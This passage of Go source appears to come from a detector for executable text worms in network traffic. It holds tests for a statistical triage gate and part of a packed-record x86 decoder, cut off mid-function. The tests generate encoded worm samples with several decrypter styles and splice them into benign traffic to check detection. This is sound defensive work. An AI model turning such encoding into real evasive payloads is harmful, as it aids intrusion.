// capacity the chain is returned unchanged (callers bound depth first).
func (c Chain) Push(k Kind) Chain {
	if int(c.n) < MaxChainLen {
		c.kinds[c.n] = k
		c.n++
	}
	return c
}

// Len returns the number of peeled layers.
func (c Chain) Len() int { return int(c.n) }

// At returns the i-th layer, outermost first.
func (c Chain) At(i int) Kind { return c.kinds[i] }

// String renders the chain as "gzip>base64" (outermost first), empty
// for the raw payload.
func (c Chain) String() string {
	if c.n == 0 {
		return ""
	}
	s := c.kinds[0].String()
	for i := 1; i < int(c.n); i++ {
		s += ">" + c.kinds[i].String()
	}
	return s
}

// ParseChain parses the form String renders. An empty string is the
// empty chain.
func ParseChain(s string) (Chain, error) {
	var c Chain
	if s == "" {
		return c, nil
	}
	start := 0
	for i := 0; i <= len(s); i++ {
		if i < len(s) && s[i] != '>' {
			continue
		}
		k, ok := ParseKind(s[start:i])
		if !ok {
			return Chain{}, errors.New("content: unknown layer name " + s[start:i])
		}
		if c.Len() == MaxChainLen {
			return Chain{}, errors.New("content: chain too long")
		}
		c = c.Push(k)
		start = i + 1
	}
	return c, nil
}

// AppendWire appends the chain's compact wire form (length byte, then
// one kind byte per layer) to dst.
func (c Chain) AppendWire(dst []byte) []byte {
	dst = append(dst, c.n)
	for i := 0; i < int(c.n); i++ {
		dst = append(dst, byte(c.kinds[i]))
	}
	return dst
}

// ChainFromWire parses the form AppendWire produces, returning the
// chain and the number of bytes consumed (0 on malformed input).
func ChainFromWire(p []byte) (Chain, int) {
	var c Chain
	if len(p) < 1 {
		return Chain{}, 0
	}
	n := int(p[0])
	if n > MaxChainLen || len(p) < 1+n {
		return Chain{}, 0
	}
	for i := 0; i < n; i++ {
		k := Kind(p[1+i])
		if k == 0 || int(k) >= numKinds {
			return Chain{}, 0
		}
		c = c.Push(k)
	}
	return c, 1 + n
}

// View is one decoded rendering of a payload.
type View struct {
	// Data is the decoded bytes.
	Data []byte
	// Chain is the decode path that produced this view, outermost layer
	// first.
	Chain Chain
}

// Depth returns the number of layers peeled to produce this view.
func (v View) Depth() int { return v.Chain.Len() }

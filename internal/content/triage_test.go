package content

import (
	"math/rand"
	"testing"

	"repro/internal/corpus"
	"repro/internal/encoder"
)

// wormWindow splices worm w into the middle of a benign host case, the
// shape a scan window sees when an exploit rides a legitimate flow.
func wormWindow(host, worm []byte) []byte {
	half := len(host) / 2
	out := make([]byte, 0, len(host)+len(worm))
	out = append(out, host[:half]...)
	out = append(out, worm...)
	out = append(out, host[half:]...)
	return out
}

// TestTriageCalibration pins the clear-side behaviour the defaults
// were calibrated for: the overwhelming majority of benign corpus
// cases clear, across every case kind.
func TestTriageCalibration(t *testing.T) {
	tr := NewTriage(TriageConfig{})
	cases, err := corpus.Dataset(42, 400, 4096)
	if err != nil {
		t.Fatal(err)
	}
	cleared := 0
	for _, c := range cases {
		r := tr.Assess(c.Data)
		if r.Cleared {
			cleared++
			if r.Score >= 0.5 {
				t.Errorf("cleared case scored %.3f (>= 0.5)", r.Score)
			}
		}
	}
	if frac := float64(cleared) / float64(len(cases)); frac < 0.9 {
		t.Fatalf("only %.0f%% of benign corpus cleared, want >= 90%%", 100*frac)
	}
}

// TestTriageNeverClearsWorms is the false-negative guard: a window
// containing a spliced text worm must never clear, for every decrypter
// style and across seeds. A failure here means the triage gate would
// skip the MEL pass on a real worm.
func TestTriageNeverClearsWorms(t *testing.T) {
	tr := NewTriage(TriageConfig{})
	cases, err := corpus.Dataset(42, 100, 4096)
	if err != nil {
		t.Fatal(err)
	}
	payload := make([]byte, 64)
	for style := encoder.Style(0); style < 4; style++ {
		for seed := uint64(0); seed < 30; seed++ {
			w, err := encoder.Encode(payload, encoder.Options{Seed: seed, Style: style})
			if err != nil {
				t.Fatalf("style %d seed %d: %v", style, seed, err)
			}
			host := cases[int(seed)%len(cases)].Data
			r := tr.Assess(wormWindow(host, w.Bytes))
			if r.Cleared {
				t.Errorf("style %d seed %d: worm window cleared (ent=%.3f blk=%.3f print=%.4f score=%.3f)",
					style, seed, r.Entropy, r.MaxBlockEntropy, r.PrintableRatio, r.Score)
			}
		}
	}
	// The bare worm (no benign padding) must not clear either.
	w, err := encoder.Encode(payload, encoder.Options{Seed: 1})
	if err != nil {
		t.Fatal(err)
	}
	if r := tr.Assess(w.Bytes); r.Cleared {
		t.Errorf("bare worm cleared: %+v", r)
	}
}

// TestTriageConservativeDefaults: the can't-clear direction for inputs
// the statistics can't vouch for.
func TestTriageConservativeDefaults(t *testing.T) {
	tr := NewTriage(TriageConfig{})

	if r := tr.Assess(nil); r.Cleared {
		t.Error("empty payload cleared")
	}
	if r := tr.Assess([]byte("GET / HTTP/1.1")); r.Cleared {
		t.Error("sub-MinLen payload cleared")
	}

	// Binary data (a gzip body, say) is far below the printable floor.
	bin := make([]byte, 4096)
	rng := rand.New(rand.NewSource(9))
	rng.Read(bin)
	if r := tr.Assess(bin); r.Cleared {
		t.Error("random binary cleared")
	}

	// Uniform random printable text — what compressed content re-encoded
	// into the text domain looks like — trips the entropy ceilings even
	// though it is 100% printable.
	uni := make([]byte, 4096)
	for i := range uni {
		uni[i] = byte(0x20 + rng.Intn(95))
	}
	if r := tr.Assess(uni); r.Cleared {
		t.Error("uniform printable cleared")
	}

	// Plain prose clears, with a low score.
	prose := make([]byte, 0, 4096)
	for len(prose) < 4096 {
		prose = append(prose, "The quick brown fox jumps over the lazy dog. "...)
	}
	r := tr.Assess(prose[:4096])
	if !r.Cleared {
		t.Errorf("prose did not clear: %+v", r)
	}
	if r.Score >= 0.5 {
		t.Errorf("prose score = %.3f, want < 0.5", r.Score)
	}
}

// TestTriageScoreSemantics: scores above 0.5 never clear.
func TestTriageScoreSemantics(t *testing.T) {
	tr := NewTriage(TriageConfig{})
	cases, err := corpus.Dataset(7, 50, 4096)
	if err != nil {
		t.Fatal(err)
	}
	payload := make([]byte, 64)
	inputs := make([][]byte, 0, len(cases)+10)
	for _, c := range cases {
		inputs = append(inputs, c.Data)
	}
	for seed := uint64(0); seed < 10; seed++ {
		w, err := encoder.Encode(payload, encoder.Options{Seed: seed})
		if err != nil {
			t.Fatal(err)
		}
		inputs = append(inputs, wormWindow(cases[int(seed)].Data, w.Bytes))
	}
	for i, in := range inputs {
		r := tr.Assess(in)
		if r.Score > 0.5 && r.Cleared {
			t.Errorf("input %d: score %.3f cleared", i, r.Score)
		}
	}
}

// TestTriageConfigOverrides: explicit thresholds are honoured.
func TestTriageConfigOverrides(t *testing.T) {
	strict := NewTriage(TriageConfig{MaxEntropy: 0.5, MaxBlockEntropy: 0.5, BlockEntropy: 0.5, BlockSymbolRatio: 0.01})
	prose := make([]byte, 0, 1024)
	for len(prose) < 1024 {
		prose = append(prose, "normal text that the default gate would clear with ease. "...)
	}
	if r := strict.Assess(prose); r.Cleared {
		t.Error("strict thresholds still cleared prose")
	}
	if got := NewTriage(TriageConfig{}).Config().MinLen; got != DefaultTriageMinLen {
		t.Fatalf("default MinLen = %d", got)
	}
}

// BenchmarkTriageAssess pins the triage hot path: it must be far
// cheaper than the ~33µs fused MEL scan it gates, at 0 allocs/op.
func BenchmarkTriageAssess(b *testing.B) {
	cases, err := corpus.Dataset(42, 1, 4096)
	if err != nil {
		b.Fatal(err)
	}
	tr := NewTriage(TriageConfig{})
	data := cases[0].Data
	b.SetBytes(int64(len(data)))
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		_ = tr.Assess(data)
	}
}

package mel

import (
	"repro/internal/x86"
)

// This file is the decode half of the anchored single-pass scan core:
// every stream offset is reduced, in one forward pass, to a packed
// 64-bit record holding exactly what the DP over execution chains needs
// — encoded length, control kind, required registers, the compiled
// register transition, and the branch displacement. Records are
// position-independent (the displacement is relative), which is what
// lets the stream scanner carry records for the window overlap instead
// of re-decoding it (see WindowScanner).
//
// The fused decoder below does not materialize an x86.Inst: it walks
// prefixes, the opcode maps, ModRM/SIB and immediate sizes directly,
// against per-engine meta tables that were compiled from the x86
// package's table export with the engine's invalidity rules already
// folded in. The rare forms it does not inline (0x67 16-bit
// addressing, 0F 38/3A three-byte opcodes) fall back to the full
// decoder through recFull, which is also the executable specification
// the fused path is property-tested against (records_test.go) — both
// must produce bit-identical records on every input.

// Packed record layout (uint64):
//
//	bits  0-3   encoded instruction length (0 for invalid records)
//	bits  4-6   control kind (ctrlSeq..ctrlJump)
//	bits  8-15  required-register mask (needRegs)
//	bits 16-17  register-transition kind (transNone..transSwap)
//	bits 24-31  register-transition argument
//	bits 32-63  int32 branch displacement; target = off + len + disp
const (
	recLenMask     = 0xF
	recKindShift   = 4
	recNeedShift   = 8
	recTrKindShift = 16
	recTrArgShift  = 24
	recDispShift   = 32
)

// recInvalidPacked is the canonical record for an undecodable or
// rule-invalid offset: kind ctrlInvalid, every other field zero.
const recInvalidPacked = uint64(ctrlInvalid) << recKindShift

// quickRel8 marks a quick1 entry whose record needs the rel8
// displacement byte patched in; quickJmp8 additionally marks the
// unconditional rel8 jump, whose displacement decides back-edge
// tracking. Both bits are unused in packed records (bit 7 pads the
// needRegs byte, bit 18 pads the transition kind) and are stripped
// before the record is stored.
const (
	quickRel8 = uint64(1) << 7
	quickJmp8 = uint64(1) << 18
)

// Derived decode facts, set on every valid record by every producer:
// whether the instruction accesses memory, whether it carries a
// segment-override prefix, and whether its encoding is identical under
// both operand sizes (equal immediate widths, or a 0x66 prefix already
// present — another 0x66 is then idempotent). The DP never reads them;
// the backward record builders use them to derive a prefixed record
// from its successor's final record (segDerive) without re-decoding
// the suffix. Bits 19-21 pad the transition-kind byte.
const (
	recMemAcc = uint64(1) << 19
	recHasSeg = uint64(1) << 20
	rec66Same = uint64(1) << 21
)

// quickSIB marks a quick2 entry that is not a finished record but a
// partial one for a no-prefix ModRM memory form whose rm field calls
// for a SIB byte: everything the opcode and ModRM bytes determine
// (control kind, transition, immediate width, the mod-implied
// displacement) is precompiled; expandSIB completes it against the SIB
// byte (base/index registers, scale-table displacement, total length).
// sibNeedRegs asks the expansion to fold the base/index registers into
// needRegs (register tracking on); sibExplInv turns the disp-only
// absolute-address form invalid (InvalidateExplicitAddr on). All three
// are stripped from the stored record. SIB partials never describe
// relative branches, so reusing bit 7 next to quickRel8 is safe: the
// two markers cannot meet on one entry.
const (
	quickSIB    = uint64(1) << 22
	sibNeedRegs = uint64(1) << 23
	sibExplInv  = uint64(1) << 7
)

// Sentinel classes for segPrefixByte beyond real segment numbers:
// segNeutral marks a prefix with no effect on the record beyond its
// length (lock and the rep pair, which the decoder records but no rule
// or size computation reads); segOpSize marks 0x66, derivable only
// from suffixes whose encoding is operand-size independent
// (rec66Same). segNeutral doubles as an unused wrongSeg index so
// segDerive can share the dispatch.
const (
	segNeutral = 7
	segOpSize  = 8
)

// segPrefixByte maps a segment-override prefix byte to its segment
// number (x86.Seg), lock/rep prefixes to segNeutral, 0x66 to
// segOpSize, and every other byte to zero.
var segPrefixByte = [256]uint8{
	0x26: uint8(x86.SegES),
	0x2E: uint8(x86.SegCS),
	0x36: uint8(x86.SegSS),
	0x3E: uint8(x86.SegDS),
	0x64: uint8(x86.SegFS),
	0x65: uint8(x86.SegGS),
	0x66: segOpSize,
	0xF0: segNeutral,
	0xF2: segNeutral,
	0xF3: segNeutral,
}

// segDerive derives the record at a prefix byte from the successor
// offset's final record — the shape the backward record builders
// exploit: the prefixed instruction is the suffix instruction with one
// more prefix byte, and a segment override only matters when the
// suffix carries none of its own (the last one in byte order wins).
// The displacement is unchanged because branch targets are relative to
// the instruction's end, which is the same absolute offset. A 15-byte
// suffix overflows the architectural length limit with one more
// prefix, and an invalid suffix stays invalid for the same reason it
// already was. The one underivable case returns ok=false: 0x66 over a
// suffix whose encoding depends on the operand size — including an
// invalid suffix, which a shortened immediate could revive — must be
// re-decoded for real.
func segDerive(r1 uint64, sp uint8, wrongSeg *[8]bool) (uint64, bool) {
	if sp == segOpSize {
		if uint8(r1>>recKindShift)&7 == ctrlInvalid || r1&rec66Same == 0 {
			return 0, false
		}
		if r1&recLenMask == recLenMask {
			return recInvalidPacked, true
		}
		return r1 + 1, true
	}
	if uint8(r1>>recKindShift)&7 == ctrlInvalid || r1&recLenMask == recLenMask {
		return recInvalidPacked, true
	}
	if sp == segNeutral || r1&recHasSeg != 0 {
		return r1 + 1, true
	}
	if r1&recMemAcc != 0 && wrongSeg[sp] {
		return recInvalidPacked, true
	}
	return r1 + 1 | recHasSeg, true
}

// backEdgeRec reports whether a packed record is a backward (or
// self-targeting) unconditional transfer — target at or before its own
// offset. Streams without such records have strictly forward
// sequential-mode chains, which unlocks the suffix-run DP sweep.
func backEdgeRec(r uint64) bool {
	return uint8(r>>recKindShift)&7 == ctrlJump &&
		int(int32(r>>recDispShift))+int(r&recLenMask) <= 0
}

// countBackEdges tallies backEdgeRec over a record slice — used by the
// window scanner to re-establish the count for carried records.
func countBackEdges(recs []uint64) int {
	n := 0
	for _, r := range recs {
		if backEdgeRec(r) {
			n++
		}
	}
	return n
}

// Per-opcode meta layout (uint64), compiled once per engine from the
// x86 table export with the rules folded in:
//
//	bits  0-3   immediate length, 32-bit operand size
//	bits  4-7   immediate length, 16-bit operand size (0x66 prefix)
//	bit   8     ModRM byte follows
//	bit   9     immediate is a relative branch displacement
//	bit  10     prefix byte
//	bit  11     0x0F escape to the two-byte map
//	bit  12     fused decode unsupported; take the recFull fallback
//	bits 13-15  control kind under the engine's rules (group bytes: seq)
//	bits 16-18  register-transition class (tcNone..tcMovzx)
//	bits 19-26  static transition argument, or implicit-memory needRegs
//	bits 27-28  static transition kind (tcStatic only)
//	bit  29     register form (mod=3) is #UD
//	bit  30     POP Ev: ModRM.reg != 0 is #UD
//	bit  31     explicit ModRM memory semantics (table mem != none)
//	bit  32     implicit memory access (moffs, XLAT, string)
//	bit  33     implicit access is disp-only (moffs)
//	bits 34-36  group id (grpMeta row; 0 = not a group opcode)
const (
	metaImm32Shift  = 0
	metaImm16Shift  = 4
	metaHasModRM    = 1 << 8
	metaIsRel       = 1 << 9
	metaPrefix      = 1 << 10
	metaEscape      = 1 << 11
	metaFallback    = 1 << 12
	metaKindShift   = 13
	metaTransShift  = 16
	metaArgShift    = 19
	metaTrKindShift = 27
	metaMod3UD      = uint64(1) << 29
	metaPopEv       = uint64(1) << 30
	metaMemSem      = uint64(1) << 31
	metaImplMem     = uint64(1) << 32
	metaMoffs       = uint64(1) << 33
	metaGroupShift  = 34

	// metaSpecial gates the rare per-ModRM checks (group dispatch,
	// mod-3 #UD, POP Ev reg constraint) behind one test so plain ALU
	// forms skip them.
	metaSpecial = metaMod3UD | metaPopEv | uint64(7)<<metaGroupShift

	// metaTransMask is the transition-class field; nonzero only for
	// the handful of register-revealing opcodes.
	metaTransMask = uint64(7) << metaTransShift
)

// Register-transition classes: how transitionOf resolves for an opcode.
// tcStatic transitions are fully determined by the opcode byte and live
// in the meta word; the others need ModRM (or address-form) fields.
const (
	tcNone   uint8 = iota
	tcStatic       // kind+arg in the meta word
	tcMovRM        // 8A/8B mov reg, r/m
	tcLEA          // 8D lea
	tcXorSub       // 28-2B sub / 30-33 xor: reg==rm zeroes the register
	tcMovzx        // 0F B6/B7/BE/BF movzx/movsx
)

// Group-slot meta layout (uint32), one row per group id, indexed by
// ModRM.reg:
//
//	bits  0-2   control kind under the engine's rules
//	bit   3     explicit memory semantics
//	bit   4     immediate lengths below override the base row's
//	bits  5-8   immediate length, 32-bit operand size
//	bits  9-12  immediate length, 16-bit operand size
//	bit  13     grp1 XOR/SUB slot (reg==rm at mod 3 zeroes the register)
const (
	grpKindMask    = 7
	grpMemSem      = 1 << 3
	grpImmOverride = 1 << 4
	grpImm32Shift  = 5
	grpImm16Shift  = 9
	grpXorSub      = 1 << 13
)

// Engine-internal group ids (meta bits 34-36). Group 3 splits by opcode
// because F6 and F7 imply different TEST immediate widths.
const (
	gidGrp1  = 1
	gidGrp2  = 2
	gidGrp3b = 3 // F6: TEST Eb, imm8
	gidGrp3v = 4 // F7: TEST Ev, immz
	gidGrp4  = 5
	gidGrp5  = 6
	gidGrp8  = 7
)

// kindOfFlags classifies an instruction's control kind under the
// engine's compiled invalidity flags — the meta-table form of
// invalidBase plus the ctrl classification of the record builder.
func (e *Engine) kindOfFlags(f x86.Flags) uint8 {
	switch {
	case f&e.invalidFlags != 0:
		return ctrlInvalid
	case f&(x86.FlagRet|x86.FlagIndirect|x86.FlagFar|x86.FlagInt) != 0:
		return ctrlEnd
	case f.Has(x86.FlagCondBranch):
		return ctrlCond
	case f&(x86.FlagUncondJump|x86.FlagCall) != 0:
		return ctrlJump
	}
	return ctrlSeq
}

// staticTransOf returns the transition class for an opcode byte, and for
// tcStatic the compiled (kind, arg) pair. It is transitionOf restricted
// to what the opcode byte alone determines; records_test.go proves the
// two agree through the packed-record comparison.
func staticTransOf(twoByte bool, b byte) (class, trKind, trArg uint8) {
	if twoByte {
		switch {
		case b == 0x31: // rdtsc
			return tcStatic, transOr, 0x05
		case b == 0xA2: // cpuid
			return tcStatic, transOr, 0x0F
		case b == 0xB6 || b == 0xB7 || b == 0xBE || b == 0xBF:
			return tcMovzx, 0, 0
		}
		return tcNone, 0, 0
	}
	switch {
	case b >= 0x58 && b <= 0x5F: // pop reg
		return tcStatic, transOr, 1 << (b & 7)
	case b == 0x61: // popa
		return tcStatic, transOr, 0xFF
	case b >= 0x28 && b <= 0x2B, b >= 0x30 && b <= 0x33: // sub/xor r/m
		return tcXorSub, 0, 0
	case b == 0x8A || b == 0x8B: // mov reg, r/m
		return tcMovRM, 0, 0
	case b == 0x8D: // lea
		return tcLEA, 0, 0
	case b >= 0x91 && b <= 0x97: // xchg eax, reg
		return tcStatic, transSwap, uint8(x86.EAX)<<4 | b&7
	case b == 0x99: // cdq
		return tcStatic, transOr, 0x05
	case b == 0xA1: // mov eax, moffs
		return tcStatic, transOr, 1 << uint(x86.EAX)
	case b >= 0xB0 && b <= 0xBF: // mov reg, imm
		return tcStatic, transOr, 1 << (b & 7)
	case b == 0xE4 || b == 0xE5 || b == 0xEC || b == 0xED: // in
		return tcStatic, transOr, 1 << uint(x86.EAX)
	}
	return tcNone, 0, 0
}

// compileMeta builds the per-opcode meta tables for this engine's rules.
// Called once from NewEngineMode; scans never touch the x86 tables
// again.
func (e *Engine) compileMeta() {
	for b := 0; b < 256; b++ {
		e.meta1[b] = e.compileEntry(x86.OneByteInfo(byte(b)), false, byte(b))
		e.meta2[b] = e.compileEntry(x86.TwoByteInfo(byte(b)), true, byte(b))
	}
	e.compileGroup(gidGrp1, x86.Group1, 0, 0)
	e.compileGroup(gidGrp2, x86.Group2, 0, 0)
	e.compileGroup(gidGrp3b, x86.Group3, 1, 1)
	e.compileGroup(gidGrp3v, x86.Group3, 4, 2)
	e.compileGroup(gidGrp4, x86.Group4, 0, 0)
	e.compileGroup(gidGrp5, x86.Group5, 0, 0)
	e.compileGroup(gidGrp8, x86.Group8, 0, 0)
	e.compileQuick()
	e.compileQuick2()
}

// compileQuick2 fills quick2: the complete packed record for every
// (first, second) byte pair that determines one. Eligibility is decided
// structurally from the meta words — a ModRM opcode whose second byte
// encodes no SIB, a single prefix followed by a no-ModRM opcode, or an
// 0x0F escape to a no-ModRM two-byte opcode — and the record itself
// comes from the reference decoder run on a zero-padded probe, so the
// table inherits the spec's semantics (including rule invalidity, group
// selection, and register transitions) rather than re-deriving them.
// Trailing bytes cannot change such a record: displacement and
// immediate values are never stored, except a trailing rel8
// displacement, which is marked with quickRel8 and patched at scan
// time. rel16/32 forms stay on the fused walk.
func (e *Engine) compileQuick2() {
	e.quick2 = new([256][256]uint32)
	var probe [2 + x86.MaxInstLen]byte
	for b0 := 0; b0 < 256; b0++ {
		if e.quick1[b0] != 0 {
			continue // never consulted: quick1 resolves the offset first
		}
		m0 := e.meta1[b0]
		for b1 := 0; b1 < 256; b1++ {
			var rel8 bool
			switch {
			case m0&metaFallback != 0:
				continue // 0x67: stays on the full decoder
			case m0&metaPrefix != 0:
				m1 := e.meta1[b1]
				if m1&(metaPrefix|metaEscape|metaFallback|metaHasModRM) != 0 {
					continue
				}
				immLen := m1 >> metaImm32Shift & 0xF
				if b0 == 0x66 {
					immLen = m1 >> metaImm16Shift & 0xF
				}
				if m1&metaIsRel != 0 {
					if immLen != 1 {
						continue // rel16/32 after a prefix: fused walk
					}
					rel8 = true
				}
			case m0&metaEscape != 0:
				m1 := e.meta2[b1]
				if m1&(metaFallback|metaHasModRM|metaIsRel) != 0 {
					continue
				}
			case m0&metaHasModRM != 0:
				if b1 < 0xC0 && b1&7 == 4 {
					// SIB byte: the third byte matters. Compile the
					// ModRM-determined half into a partial entry that
					// expandSIB finishes at scan time.
					if r, ok := e.compileSIBPartial(m0, byte(b1)); ok {
						e.quick2[b0][b1] = uint32(r)
					}
					continue
				}
			default:
				// First-byte-determined forms quick1 declined (rel16/32,
				// moffs): the trailing bytes matter.
				continue
			}
			probe[0], probe[1] = byte(b0), byte(b1)
			r := e.recFullAt(probe[:], 0)
			if rel8 && r != recInvalidPacked {
				if uint8(r>>recKindShift)&7 == ctrlJump {
					r |= quickJmp8
				}
				r = r&^(0xFFFFFFFF<<recDispShift) | quickRel8
			}
			if r>>32 != 0 {
				continue // defensive: an entry must fit the 32-bit row
			}
			e.quick2[b0][b1] = uint32(r)
		}
	}
}

// compileSIBPartial compiles the quick2 partial for one (opcode,
// ModRM) pair whose memory form takes a SIB byte. It mirrors
// decodeSlow restricted to that shape: no prefixes, one-byte opcode
// map, mod != 3. The stored length counts opcode + ModRM + SIB +
// mod-implied displacement + immediate; the SIB-implied displacement
// is added at expansion. LEA is the one form whose register
// transition depends on the SIB base, so it stays on decodeSlow.
func (e *Engine) compileSIBPartial(m uint64, modrm byte) (uint64, bool) {
	tracking := e.rules.TrackRegisterInit
	mod := modrm >> 6
	reg := modrm >> 3 & 7
	kind := uint8(m>>metaKindShift) & 7
	if kind == ctrlInvalid {
		return recInvalidPacked, true
	}
	immLen := m >> metaImm32Shift & 0xF
	imm66 := immLen == m>>metaImm16Shift&0xF
	memSem := m&metaMemSem != 0
	var trKind, trArg uint8
	if m&metaSpecial != 0 {
		if gid := m >> metaGroupShift & 7; gid != 0 {
			gm := e.grpMeta[gid][reg]
			kind = uint8(gm & grpKindMask)
			if kind == ctrlInvalid {
				return recInvalidPacked, true
			}
			memSem = gm&grpMemSem != 0
			if gm&grpImmOverride != 0 {
				imm66 = gm>>grpImm32Shift&0xF == gm>>grpImm16Shift&0xF
				immLen = uint64(gm >> grpImm32Shift & 0xF)
			}
			// grpXorSub needs mod == 3; not this shape.
		}
		// metaMod3UD needs mod == 3; not this shape.
		if m&metaPopEv != 0 && reg != 0 {
			return recInvalidPacked, true
		}
	}
	if tracking && m&metaTransMask != 0 {
		switch uint8(m>>metaTransShift) & 7 {
		case tcStatic:
			trKind = uint8(m>>metaTrKindShift) & 3
			trArg = uint8(m >> metaArgShift)
		case tcMovRM:
			trKind, trArg = transOr, 1<<reg
		case tcLEA:
			return 0, false // transition depends on the SIB base
		case tcMovzx:
			trKind, trArg = transOr, 1<<reg
		}
		// tcXorSub needs mod == 3; not this shape.
	}
	var dispLen uint64
	switch mod {
	case 1:
		dispLen = 1
	case 2:
		dispLen = 4
	}
	r := (3 + dispLen + immLen) | uint64(kind)<<recKindShift |
		uint64(trKind)<<recTrKindShift | uint64(trArg)<<recTrArgShift |
		quickSIB
	if imm66 {
		r |= rec66Same
	}
	if memSem {
		r |= recMemAcc
		if e.rules.InvalidateExplicitAddr {
			r |= sibExplInv
		}
		if tracking {
			r |= sibNeedRegs
		}
	}
	return r, true
}

// expandSIB finishes a quickSIB partial against the stream: one SIB
// table load resolves the base/index registers and the SIB-implied
// displacement, then the truncation check and the memory-dependent
// rules run exactly as decodeSlow would run them (segment overrides
// cannot occur — partials are only consulted with the opcode byte
// first). The result is a finished record; SIB forms carry no branch
// displacement, so it can never be a back edge.
//
//mel:hotpath
func expandSIB(q uint64, code []byte, off, n int) uint64 {
	if off+2 >= n {
		return recInvalidPacked
	}
	var mi uint16
	if sib := code[off+2]; code[off+1] < 0x40 {
		mi = sibTab0[sib]
	} else {
		mi = sibTabN[sib]
	}
	l := q&recLenMask + uint64(mi>>8&7)
	if off+int(l) > n {
		return recInvalidPacked
	}
	if mi&miDispOnly != 0 && q&sibExplInv != 0 {
		return recInvalidPacked
	}
	r := q&^(quickSIB|sibNeedRegs|sibExplInv|recLenMask) | l
	if q&sibNeedRegs != 0 {
		var nr uint64
		if base := mi & 0xF; base != 0 {
			nr = 1 << (base - 1)
		}
		if idx := mi >> 4 & 0xF; idx != 0 {
			nr |= 1 << (idx - 1)
		}
		r |= nr << recNeedShift
	}
	return r
}

// compileQuick fills quick1: the complete packed record for every
// opcode whose record is determined by its first byte alone — no
// prefixes, no escape, no ModRM, fixed-width immediate. Covers most of
// printable ASCII (inc/dec/push/pop, the imm ALU forms, rule-invalid
// bytes, and rel8 branches via the quickRel8 patch flag), so the record
// builder resolves typical text offsets in two table loads. Zero means
// no quick form; the fused walk decides.
func (e *Engine) compileQuick() {
	tracking := e.rules.TrackRegisterInit
	for b := 0; b < 256; b++ {
		m := e.meta1[b]
		if m&(metaPrefix|metaEscape|metaFallback|metaHasModRM) != 0 {
			continue
		}
		kind := uint8(m>>metaKindShift) & 7
		if kind == ctrlInvalid {
			e.quick1[b] = recInvalidPacked
			continue
		}
		immLen := m >> metaImm32Shift & 0xF
		rec := (1 + immLen) | uint64(kind)<<recKindShift
		if immLen == m>>metaImm16Shift&0xF {
			rec |= rec66Same
		}
		if m&metaIsRel != 0 {
			if immLen != 1 {
				continue // rel16/32: displacement read stays on the fused walk
			}
			rec |= quickRel8
			if kind == ctrlJump {
				rec |= quickJmp8
			}
		}
		if m&metaImplMem != 0 {
			rec |= recMemAcc
			// No segment override is possible here, so only the
			// explicit-address rule and the implicit registers apply.
			if m&metaMoffs != 0 {
				if e.rules.InvalidateExplicitAddr {
					e.quick1[b] = recInvalidPacked
					continue
				}
			} else if tracking {
				rec |= (m >> metaArgShift & 0xFF) << recNeedShift
			}
		}
		if tracking && uint8(m>>metaTransShift)&7 == tcStatic {
			rec |= (m>>metaTrKindShift&3)<<recTrKindShift |
				(m>>metaArgShift&0xFF)<<recTrArgShift
		}
		e.quick1[b] = rec
	}
}

// compileEntry compiles one opcode-table row into its meta word.
func (e *Engine) compileEntry(ti x86.TableInfo, twoByte bool, b byte) uint64 {
	switch ti.Shape {
	case x86.ShapePrefix:
		return metaPrefix
	case x86.ShapeEscape:
		return metaEscape
	case x86.ShapeEscape3:
		return metaFallback
	}
	var m, imm32, imm16 uint64
	switch ti.Shape {
	case x86.ShapeModRM, x86.ShapeGroup3:
		m |= metaHasModRM
	case x86.ShapeModRMIb:
		m |= metaHasModRM
		imm32, imm16 = 1, 1
	case x86.ShapeModRMIz:
		m |= metaHasModRM
		imm32, imm16 = 4, 2
	case x86.ShapeIb:
		imm32, imm16 = 1, 1
	case x86.ShapeIz:
		imm32, imm16 = 4, 2
	case x86.ShapeIw:
		imm32, imm16 = 2, 2
	case x86.ShapeIwIb:
		imm32, imm16 = 3, 3
	case x86.ShapeRel8:
		imm32, imm16 = 1, 1
		m |= metaIsRel
	case x86.ShapeRelZ:
		imm32, imm16 = 4, 2
		m |= metaIsRel
	case x86.ShapeFarPtr:
		imm32, imm16 = 6, 4
	case x86.ShapeMoffs:
		// moffs is address-size sized; 16-bit addressing (0x67) takes
		// the fallback path, so both widths compile to 4.
		imm32, imm16 = 4, 4
	}
	m |= imm32<<metaImm32Shift | imm16<<metaImm16Shift
	m |= uint64(e.kindOfFlags(ti.Flags)) << metaKindShift
	if ti.Mem != x86.MemDirNone {
		m |= metaMemSem
		if m&metaHasModRM == 0 {
			// Implicit-memory forms: moffs, XLAT, string instructions.
			switch {
			case ti.Shape == x86.ShapeMoffs:
				m |= metaImplMem | metaMoffs
			case ti.Op == x86.OpXLAT:
				m |= metaImplMem | uint64(1)<<(metaArgShift+uint(x86.EBX))
			case ti.Flags.Has(x86.FlagString):
				m |= metaImplMem
				var need uint64
				if ti.Mem == x86.MemDirRead || ti.Mem == x86.MemDirRW {
					need |= 1 << uint(x86.ESI)
				}
				if ti.Mem == x86.MemDirWrite || ti.Mem == x86.MemDirRW {
					need |= 1 << uint(x86.EDI)
				}
				m |= need << metaArgShift
			}
		}
	}
	switch ti.Op {
	case x86.OpBOUND, x86.OpLES, x86.OpLDS, x86.OpLSS, x86.OpLFS,
		x86.OpLGS, x86.OpLEA, x86.OpCMPXCHG8B:
		m |= metaMod3UD
	}
	if !twoByte && b == 0x8F {
		m |= metaPopEv
	}
	if ti.Group != x86.GroupNone {
		var gid uint64
		switch ti.Group {
		case x86.Group1:
			gid = gidGrp1
		case x86.Group2:
			gid = gidGrp2
		case x86.Group3:
			if b == 0xF6 {
				gid = gidGrp3b
			} else {
				gid = gidGrp3v
			}
		case x86.Group4:
			gid = gidGrp4
		case x86.Group5:
			gid = gidGrp5
		case x86.Group8:
			gid = gidGrp8
		}
		m |= gid << metaGroupShift
	}
	class, trKind, trArg := staticTransOf(twoByte, b)
	m |= uint64(class)<<metaTransShift |
		uint64(trKind)<<metaTrKindShift | uint64(trArg)<<metaArgShift
	return m
}

// compileGroup compiles one grpMeta row. immOverride widths apply to the
// TEST slots (reg 0/1) of group 3 only; zero widths mean the base row's
// immediate stands.
func (e *Engine) compileGroup(gid int, group uint8, imm32, imm16 uint32) {
	for reg := byte(0); reg < 8; reg++ {
		_, flags, mem := x86.GroupInfo(group, reg)
		gm := uint32(e.kindOfFlags(flags))
		if mem != x86.MemDirNone {
			gm |= grpMemSem
		}
		if (imm32 != 0 || imm16 != 0) && reg <= 1 {
